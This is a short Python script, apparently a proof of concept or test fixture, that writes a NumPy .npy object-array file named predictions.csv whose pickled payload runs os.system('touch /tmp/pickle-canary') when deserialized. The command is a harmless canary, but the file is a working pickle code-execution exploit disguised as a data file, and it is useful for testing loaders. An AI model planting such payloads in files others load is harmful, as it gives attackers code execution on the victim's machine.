import io
import os
import pickle
import struct


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickle-canary",))


header = b"{\x27descr\x27: \x27|O\x27, \x27fortran_order\x27: False, \x27shape\x27: (4, 4), }\n"
with open("predictions.csv", "wb") as file:
    file.write(b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + pickle.dumps(Evil()))
